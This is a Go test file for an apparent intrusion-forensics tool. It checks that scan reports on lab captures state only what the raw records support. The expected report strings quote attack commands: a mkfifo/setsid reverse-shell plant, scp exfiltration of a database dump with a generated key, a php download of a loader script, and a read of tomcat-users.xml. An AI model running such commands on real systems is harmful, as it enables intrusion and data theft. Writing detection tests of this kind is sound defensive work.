package main

import (
	"strings"
	"testing"
)

// TestLabClaims reads the lab captures' reports for claims a reviewer
// checked against the raw records and found false or overstated: each row
// is a phrase the report must hold (what the records show) or must not
// (what they do not), in its text or its JSON (where no line wraps).
func TestLabClaims(t *testing.T) {
	for _, tc := range []struct {
		capture   string
		want, not []string
	}{
		{"webshell-classic",
			[]string{
				// two curl connects, each counted once
				"peer: 127.0.0.1:8000, a peer of exfiltration-impact acts, connected to by pid 1897 (curl) at 14:13:42.250; seen in 2 connects;",
				// the shell named the peer; bash[1479] connected (serial 17777's connect)
				"named in the command line of pid 1477 (dash) at 14:13:25.966, then connected to by pid 1479 (bash) at 14:13:25.978",
				// curl's connects are non-blocking: EINPROGRESS, no result in the log
				"connect to 127.0.0.1:8000 (non-blocking: the log does not record whether it connected)",
				// /tmp is not watched: only rm's command line names the deletion
				"/tmp/.k (deleted since, inferred)",
				"a copy of /var/www/html/backup/deploy_key made by cp[1643]",
				// the host's own sshd accepted the login: a host reached
				"Hosts reached: 127.0.0.1:22",
			},
			[]string{"used by pid 1477 (dash)", "seen 4 times", "seen 12 times", "talked to it", "Files dropped:",
				"rotate the key it is a copy of", "connected to 127.0.0.1:8000",
				// the victim's own things are no indicators: its sshd reached
				// by lateral movement, its web account, crontab's temporary
				// file (renamed to www-data at once)
				`{"type":"address","value":"127.0.0.1:22"`, `{"type":"user"`, `"value":"/var/spool/cron/crontabs/tmp.sEoNaJ"`,
				// curl's connects to the sink are non-blocking: no record says they talked
				"127.0.0.1:8000 — peer the intruder's processes talked to",
				// bash[1479] overwrote the site's own index.html (PATH
				// nametype=NORMAL, serial 19507): restore it, no indicator
				`"file","value":"/var/www/html/index.html"`}},
		{"node-api",
			[]string{"/tmp/.q — written by `mkfifo /tmp/.q;",
				// setsid ran from the admin's su login (its login shell read
				// the planted startup files), not through the requests beside
				// them: the hook's firing, said as inferred
				"is taken to have fired as `setsid -f /bin/sh -c 'mkfifo /tmp/.q;",
				"a program a login shell started at once, after it was written: no exec names a hook"},
			[]string{
				// the '>/tmp/.q' of this shell is text echoed into .profile
				"by dash[28003] at 08:15:38 UTC; deleted",
				// nc -z's 13 connects all returned EINPROGRESS
				"it reached ports",
				// (it tried them: a sweep's connects are attempts)
				"moved on with `/usr/local/bin/mklabel 1001 pdf;bash -c 'for p in",
			}},
		{"cgi-backdoor",
			[]string{"made by `/usr/bin/ssh-keygen -q -t ed25519", "a key of the host's own, rotate it",
				// LOGIN ses=36 (serial 8386) by sshd's child pid 2326 at 10:46:56.654
				"ssh: session 36 (labremote) on the host opened by pid 2321 (ssh)"},
			[]string{"rotate the key it is a copy of",
				// the nc -z probe of port 22 at 10:46:37 opened no session
				"opened by pid 1259 (nc.openbsd)"}},
		{"news-deser",
			[]string{
				// ssh-keygen[12864] -f /var/tmp/.nk ran in the chain's
				// tree (serial 35958), a child of the beacon's task shell
				"made by `ssh-keygen -q -t ed25519 -N '' -C backup@newsroom -f /var/tmp/.nk`",
				// scp's remote operand is labremote@127.0.0.1:drop/news-db.sql
				`"kind":"account","what":"labremote@127.0.0.1"`},
			[]string{
				// /var/tmp/.n.sql is scp's local source file, no account
				`"what":"/var/tmp/.n.sql","detail":"the target of a login attempt`,
				// the beacon's python3 and base64 have ppid=1 (their
				// subshell exited): init is every orphan's parent, not the
				// plant's fork, so sshd's later motd uname[12950] (a
				// recorded sshd → sh → run-parts chain) is no detached job
				"a detached job's process runs a command (inferred",
				"/var/tmp/.nk — used by `scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null /var/tmp/.n.sql labremote@127.0.0.1:drop/news-db.sql` by scp[12937] at 18:23:14 UTC; no record shows"}},
		{"shop-miner",
			[]string{
				// footer-9c41d7.php (written by php-fpm[4064] at
				// 21:42:36.979) is never requested; GET /products.php's
				// worker then ran nohup setsid sh /var/tmp/.ICE-unix/.wd.sh
				"placed as persistence: never requested by its own URL, it ran for another page's request",
				"to which cache/views/footer-9c41d7.php was added and never requested by its own URL (a page includes it)",
				// php -r copy("http://127.0.0.1:8000/ldr.sh", …) fetched
				// the installer: the connect is the download's
				`"title":"Download By Web Server Process"`},
			[]string{
				// the cleanup (21:43:03) ran through eval-stdin.php, the way
				// in, in flight for every command before the plant: no return
				// through the view
				"in flight ran `sh -c rm -f /var/tmp/.ldr.sh",
				`"title":"Reverse Shell Connection From Web Server Process","severity":"high","stage":7,"stage_id":"command-and-control","attack":["T1059.004","T1095"],"description":"A shell, interpreter or socket relay acting for the web server connects out`}},
		{"shop-reviews",
			// the ransomware encrypted and removed every customer's photo
			// and the shared reviews file: acting on the site's data made
			// no customer part of the intrusion, so the health check and
			// the customers' photo helper are routine again
			[]string{`"template":"sh -c date -u +%Y-%m-%dT%H:%M:%SZ"`,
				`"template":"sh -c /usr/local/bin/shop-photo '/var/www/html/uploads/reviews/<file>.<image>'"`},
			nil},
		{"benign-news",
			// the plugin update's unzip writes schema.php, which no one
			// requests: a page running unzip later is the update again
			nil,
			[]string{"was added and never requested by its own URL (a page includes it)"}},
		{"webshell-variant",
			[]string{`"kind":"key","what":"/home/webapp/.ssh/authorized_keys","detail":"written by dash[21588] at 14:01:17 UTC: remove the keys the intruder added"`},
			[]string{"key the intruder made or used", "file     /home/webapp/.ssh/authorized_keys"}},
		{"apache-eval",
			// a re-entry is a conclusion (reentry.go): its chain link says so
			[]string{"backdoor (inferred: its request's reason says why): sh -c id; hostname 2>&1 ran for a request that came back through /srv/kb/www/inc/footer.php",
				// sudo pid 10383 logged USER_CMD res=failed (serial 10937)
				"attempted exec sh -c sudo -n -l 2>&1 — failed: refused: sudo[10383] logged USER_CMD res=failed",
				// the crontab installed at 13:20:32 (C02) was removed by
				// crontab -r at 13:21:17 (unlink serial 11634, in C01)
				"Persistence to remove: /var/spool/cron/crontabs/svc-kb (deleted since)",
				// setsid's exec shows sh[11721] (under apache2) as php's
				// parent before php ran under init: a recorded fork
				"stage: 4 suspicious-process-spawn: a web server's shell starts a reverse shell"},
			[]string{`"backdoor: sh -c id; hostname`, "Persistence to remove: /var/spool/cron/crontabs/svc-kb\n"}},
		{"tomcat-manager",
			[]string{
				// Runtime.exec ran id, uname, cat, ps, cp with no shell:
				// 3 of the 10 requests to view.jsp spawned a shell
				"then served as /docs-api/view.jsp for 10 request(s) that spawned processes,",
				// the beacon's loop (pid 1611, ppid 1 from its first exec)
				// is tied to the JVM by account and time only: its task's id
				// ran under it, not under a worker, and says so
				`a task it fetched; the loop is a detached job's process (inferred: `,
				// id and hostname of deploy (uid 2003) after su - deploy: not
				// the web server's account (svc-stock)
				`"title":"System Discovery By An Account Reached From The Web Server"`,
				// sh[1550] opened setenv.sh O_APPEND (serial 21245, PATH
				// nametype=NORMAL): Tomcat's own file, changed, not dropped
				`"what":"/srv/stock/tomcat/bin/setenv.sh","detail":"changed (it existed before: restore it, do not delete it) by `,
				// the JSP's Runtime.exec("id") started id itself, through
				// java's spawn helper: no shell (serial 21020), no T1059.004
				`"id":"F0009","rule_id":"web-server-exploitation","rule_ids":["web-server-exploitation","discovery-by-web-user"],"title":"Web Server Exploitation","severity":"high","stage":3,"stage_id":"command-execution","attack":["T1033","T1505.003"]`,
				`"description":"A web server runs a program itself, with no shell between`,
				// sh[1610] (setsid … the beacon) started while 7 requests were
				// in flight, none picked (print.jsp the likeliest): not
				// through the view.jsp request that ran cat
				"ran `cat /srv/stock/tomcat/conf/tomcat-users.xml` through requests to /docs-api/view.jsp; ran `setsid sh -c",
			},
			[]string{
				// view.jsp was written by the JVM unpacking the WAR (serial
				// 20971), before any request to it; only cp[1499] ran for GET
				// /docs-api/view.jsp?c=cp… (report unit test
				// TestStageSentenceFilesThroughOnlyWhatRequestsCaused)
				"wrote /srv/stock/tomcat/webapps/docs-api/view.jsp, /srv/stock/tomcat/webapps/stock/css/print.jsp (through",
				"wrote /srv/stock/tomcat/webapps/docs-api/view.jsp (through",
				`{"type":"file","value":"/srv/stock/tomcat/bin/setenv.sh"`, `"file","value":"/srv/stock/tomcat/bin/setenv.sh"`,
				// the WAR's unpacked view.jsp ran 10 requests' commands: the
				// archive is no generated file
				"docs-api.war was never requested, run or run beside in these logs (a generated file",
				"for 10 request(s) that spawned shells"}},
		{"benign-tomcat",
			// the CI's PUT /manager/text/deploy is the write's own request
			// (stage 2), tied as the only upload in flight (since main
			// demotes the redeploy's batch, its chain is medium and infers
			// no stage 1: timeline unit test TestStage1ReasonOfAnUploadOnly)
			nil,
			[]string{"show what the intruder did once in"}},
		{"benign-busy",
			// the plugin server and rates feed: downloads, no reverse shell
			[]string{"peer: 127.0.0.1:8000, a peer of suspicious-process-spawn acts,"},
			[]string{"peer: 127.0.0.1:8000, the endpoint of a reverse shell"}},
		{"benign-day",
			// a kube-probe request tied to a shell by time only is no observed way in
			[]string{`"stage":1,"stage_id":"initial-access","name":"Initial access","observed":true,"visibility":"observed","confidence":"inferred","reason":"inferred as the way in: the first request tied to the chain's processes is taken as the exploit request`},
			nil},
	} {
		t.Run(tc.capture, func(t *testing.T) {
			dir := "../../testdata/lab/" + tc.capture + "/"
			code, text, stderr := runCLI(t, "", "scan", "--reproducible", "-v", dir)
			if code == 2 {
				t.Fatalf("exit 2: %s", stderr)
			}
			_, js, _ := runCLI(t, "", "scan", "--reproducible", "--format", "json", dir)
			out := text + "\n" + js
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("report lacks %q", w)
				}
			}
			for _, w := range tc.not {
				if strings.Contains(out, w) {
					t.Errorf("report says %q", w)
				}
			}
		})
	}
}
